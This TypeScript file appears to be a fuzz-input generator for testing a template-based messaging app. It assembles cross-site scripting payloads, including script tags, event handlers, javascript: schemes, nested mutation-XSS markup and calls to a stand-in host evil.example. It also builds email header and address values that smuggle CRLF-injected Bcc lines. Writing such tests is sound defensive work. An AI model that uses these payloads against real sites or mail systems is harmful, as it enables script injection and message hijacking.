import type { Random } from '../lib/random.ts';

/** Code that runs if markup gets through. The page counts the calls. */
const calls = ['alert(1)', 'canary()', 'top.canary()', 'parent.canary()', "fetch('//evil.example/')", "new Image().src='//evil.example/x'"];
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onanimationstart',
  'OnErRoR',
  'onscroll',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'java&#9;script:',
  '&#106;avascript:',
  'data:text/html,',
  'vbscript:',
  ' javascript:',
  '\u0001javascript:',
  'java{{rate}}script:',
  '//evil.example/',
  'http://evil.example/',
  '{{origin}}',
];
const openers = [
  '<svg>',
  '<math>',
  '<math><mtext>',
  '<table>',
  '<select>',
  '<noscript>',
  '<style>',
  '<title>',
  '<textarea>',
  '<xmp>',
  '<iframe>',
  '<template>',
  '<!--',
  '<![CDATA[',
  '<?xml ',
  '<p',
  '<a href="',
  "<a href='",
  '<b title="',
  '<form>',
  '<foreignObject>',
  '<annotation-xml encoding="text/html">',
  '<desc>',
  '<mglyph>',
  '<malignmark>',
  '<frameset>',
  '<plaintext>',
  '<noembed>',
  '<option>',
  '<table><td>',
];
const closers = [
  '</svg>',
  '</math>',
  '</style>',
  '</title>',
  '</textarea>',
  '</xmp>',
  '</noscript>',
  '</iframe>',
  '-->',
  '--!>',
  ']]>',
  '">',
  "'>",
  '>',
  '</p>',
  '</a>',
  '</b>',
  '</table>',
  '</template>',
  '</form>',
  '</select>',
  '</mtext>',
];
const words = [
  'Hi',
  'truck',
  '{{origin}}',
  '{{rate|call}}',
  '{{broker.contact|<b>x</b>}}',
  '{{signature}}',
  '{{nothing}}',
  '{{',
  '}}',
  '{{origin|',
  '&lt;',
  '&amp;lt;',
  '&#60;',
  '&#x3c;',
  '\\u003c',
  '\u0000',
  '\u2028',
  '\ufeff',
  '%3Cscript%3E',
  '<',
  '>',
  '"',
  "'",
  '`',
  '&',
  ';',
  '\n',
  ' ',
  '. ',
  ' · ',
];

function payload(random: Random): string {
  const call = random.pick(calls);
  const scheme = random.pick(schemes);
  const event = random.pick(events);
  const quote = random.pick(['"', "'", '', '`']);
  const space = random.pick([' ', '/', '\t', '\n', '\f', '/**/', '\u0000']);
  return random.pick([
    () => `<script>${call}</script>`,
    () => `<script src=//evil.example/x.js></script>`,
    () => `<img${space}src=x${space}${event}=${quote}${call}${quote}>`,
    () => `<svg${space}onload=${call}>`,
    () => `<svg><animate ${event}=${call} attributeName=x dur=1s>`,
    () => `<a href=${quote}${scheme}${call}${quote}>x</a>`,
    () => `<img src=${quote}${scheme}${quote}>`,
    () => `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
    () => `<iframe src=${quote}${scheme}${call}${quote}></iframe>`,
    () => `<object data=${quote}${scheme}${call}${quote}></object><embed src=${scheme}>`,
    () => `<form action=${scheme}${call}><button formaction=${scheme}${call}>x</button></form>`,
    () =>
      `<div style="background:url(${scheme}evil.example);${random.pick(['width:expression(', 'behavior:url(', '-moz-binding:url(', 'color:'])}${call})">x</div>`,
    () => `<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>`,
    () => `<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/z>`,
    () => `<meta http-equiv=refresh content="0;url=//evil.example/"><base href=//evil.example/>`,
    () => `<video><source ${event}=${call}></video><audio src=//evil.example/a ${event}=${call}>`,
    () => `<details open ontoggle=${call}>x</details><input autofocus onfocus=${call}>`,
    () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${event}=${call}&gt;">`,
    () => `<svg></p><style><a id="</style><img src=1 ${event}=${call}>">`,
    () => `<noscript><p title="</noscript><img src=x ${event}=${call}>">`,
    () => `<form><math><mtext></form><form><mglyph><style></math><img src ${event}=${call}>`,
    () => `<b title="{{origin}}" style="color:{{rate}}" ${event}="{{origin}}">x</b>`,
    () => `<a href="https://ok.example/" style="position:fixed;inset:0;z-index:9">x</a>`,
    () => `<table background="//evil.example/t"><td background="//evil.example/d">x</table>`,
  ])();
}

function scraps(random: Random, depth: number): string {
  let out = '';
  for (let left = 1 + random.below(8); left > 0; left -= 1) {
    const kind = random.below(10);
    if (kind < 4) out += payload(random);
    else if (kind < 6) out += random.pick(words);
    else if (kind < 7) out += random.pick(closers);
    else
      out +=
        random.pick(openers) +
        (depth > 0 ? scraps(random, depth - 1) : random.pick(words)) +
        (random.chance(0.6) ? random.pick(closers) : '');
  }
  return out;
}

/** Hostile markup, half of it inside normal markup as a person would paste it. Sometimes hundreds of nested tags. */
export function hostileHtml(random: Random): string {
  if (random.chance(0.005))
    return `${random.pick(['<b>', '<div>', '<svg>', '<p><a href="x">', '<ul><li>']).repeat(50 + random.below(800))}${payload(random)}`;
  const html = scraps(random, random.below(4));
  return random.chance(0.5)
    ? `<p>Hi {{broker.contact|there}}, ${html}</p><p>{{origin}} to {{destination}}. I ask {{offer.rate}}.</p>`
    : html;
}

export function hostileValue(random: Random): string {
  return random.chance(0.7) ? payload(random) : scraps(random, 1);
}

const headerScraps = [
  '\r\n',
  '\n',
  '\r',
  '\u0000',
  '\u0085',
  '\u2028',
  '\u000b',
  'Bcc: evil@evil.example',
  'Cc: evil@evil.example',
  'To: evil@evil.example',
  ',evil@evil.example',
  ';evil@evil.example',
  '<evil@evil.example>',
  '"',
  '\\',
  '(x)',
  '=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=',
  '=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=',
  'Nina',
  'Кира',
  '😀',
  ' ',
  '\t',
  ':',
  'Content-Type: text/html',
  '\r\n\r\n<script>',
  '%0d%0aBcc:evil@evil.example',
  'x'.repeat(300),
];

export function hostileHeader(random: Random): string {
  let out = '';
  for (let left = 1 + random.below(6); left > 0; left -= 1) out += random.pick(headerScraps);
  return out;
}

/** Some addresses are good, most are not. A mail to one that the contract accepts must reach exactly one person. */
export function hostileAddress(random: Random): string {
  if (random.chance(0.3)) return `carla${random.below(1_000)}@lakeshore.example`;
  const local = random.pick([
    'carla',
    'a+b',
    "o'neil",
    'кира',
    'a\u0001b',
    'a"b',
    'x'.repeat(64),
    'a.b',
    '=?utf-8?Q?a?=',
    'a%b',
    'evil@evil.example,carla',
    '<carla',
  ]);
  const host = random.pick([
    'lakeshore.example',
    'пример.example',
    'a\r\nBcc: evil@evil.example',
    'b.example>,evil@evil.example',
    'x.example\u0000',
    '[127.0.0.1]',
    'a.example evil.example',
    'lakeshore.example.',
  ]);
  return `${local}@${host}${random.chance(0.1) ? hostileHeader(random) : ''}`;
}
